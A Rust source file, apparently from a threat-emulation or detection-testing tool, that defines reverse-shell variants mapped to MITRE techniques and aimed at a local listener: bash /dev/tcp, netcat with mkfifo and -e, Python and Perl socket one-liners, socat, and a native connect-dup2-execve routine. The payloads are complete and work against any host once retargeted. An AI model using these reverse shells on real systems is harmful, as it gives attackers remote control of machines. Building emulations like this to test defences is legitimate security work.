//! Reverse shells: a shell whose input and output are a connection to the attacker.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr, TcpStream};
use std::os::fd::AsRawFd as _;
use std::os::unix::process::CommandExt as _;
use std::process::Command;

use super::{BASH, NC, PERL, PYTHON, SH, address, started};
use crate::simulate::listener::Talk;
use crate::simulate::sandbox::{Problem, Sandbox, step};
use crate::simulate::sys;
use crate::simulate::table::{Act, Log, Need, Proof, Sign, Threat, Variant};

const PORT: u16 = 4444;

pub(crate) const THREAT: Threat =
    Threat { name: "reverse-shell", techniques: &["T1059", "T1571"], variants: VARIANTS };

macro_rules! shell {
    ($name:literal, $summary:literal, $needs:expr, $ip:expr, $act:expr, |$stage:ident, $to:ident| $run:expr) => {
        Variant {
            name: $name,
            techniques: &["T1059.004", "T1571"],
            summary: $summary,
            layer: "network",
            needs: $needs,
            log: Log::No,
            prepare: |$stage| {
                let $to = $stage.listen_at($ip, $stage.port(PORT), Talk::Command)?;
                let act: Act = $run;
                Ok(act.sign(Sign::Connect { address: $to }).proof(Proof::Answered))
            },
            act: $act,
        }
    };
}

const HERE: IpAddr = IpAddr::V4(Ipv4Addr::LOCALHOST);

const VARIANTS: &[Variant] = &[
    shell!("bash-dev-tcp", "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1", &[BASH], HERE, None, |_stage, to| {
        let script = format!("bash -i >& /dev/tcp/{}/{} 0>&1", to.ip(), to.port());
        Act::tool("bash", ["-c", &script])?.sign(started("bash")?)
    }),
    shell!("nc-mkfifo", "a named pipe between sh and nc", &[SH, NC], HERE, None, |_stage, to| {
        let script = format!("mkfifo p; cat p | sh -i 2>&1 | nc {} {} > p", to.ip(), to.port());
        Act::script(script)?.sign(started("nc")?).sign(started("sh")?)
    }),
    shell!(
        "nc-exec",
        "nc -e /bin/sh",
        &[Need::Tool("nc.traditional", "netcat-traditional")],
        HERE,
        None,
        |_stage, to| Act::tool("nc.traditional", ["-e", "/bin/sh", "127.0.0.1", &to.port().to_string()])?
            .sign(Sign::exec("/bin/sh"))
    ),
    shell!(
        "python-socket",
        "python makes a connection the shell's standard input",
        &[PYTHON],
        HERE,
        None,
        |_stage, to| {
            let script = format!(
                "import os,socket\ns=socket.create_connection(('{}',{}))\nfor n in 0,1,2: os.dup2(s.fileno(),n)\nos.execv('/bin/sh',['sh','-i'])",
                to.ip(),
                to.port()
            );
            Act::tool("python3", ["-c", &script])?.sign(Sign::exec("/bin/sh"))
        }
    ),
    shell!("perl-socket", "the same in perl", &[PERL], HERE, None, |_stage, to| {
        let script = format!(
            "use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in({},inet_aton('{}')))||exit 1;\
             open(STDIN,'>&S');open(STDOUT,'>&S');open(STDERR,'>&S');exec('/bin/sh','-i')",
            to.port(),
            to.ip()
        );
        Act::tool("perl", ["-e", &script])?.sign(Sign::exec("/bin/sh"))
    }),
    shell!("socat-exec", "socat EXEC:/bin/sh", &[Need::Tool("socat", "socat")], HERE, None, |_stage, to| {
        Act::tool("socat", [format!("TCP:{to}"), "EXEC:/bin/sh".into()])?.sign(Sign::exec("/bin/sh"))
    }),
    shell!(
        "static",
        "a program of its own: connect, dup2, execve",
        &[SH],
        HERE,
        Some(connect_back),
        |stage, to| { stage.own([to])?.sign(Sign::exec("/bin/sh")) }
    ),
    shell!(
        "static-ipv6",
        "the same over IPv6",
        &[SH],
        IpAddr::V6(Ipv6Addr::LOCALHOST),
        Some(connect_back),
        |stage, to| { stage.own([to])?.sign(Sign::exec("/bin/sh")) }
    ),
];

fn connect_back(sandbox: &Sandbox, words: &[String]) -> Result<(), Problem> {
    let to: SocketAddr = address(sandbox, words, 0)?;
    let stream = step("connecting", TcpStream::connect(to))?;
    step("duplicating", sys::become_stdio(stream.as_raw_fd()))?;
    step("starting a shell", Err(Command::new("/bin/sh").exec()))
}
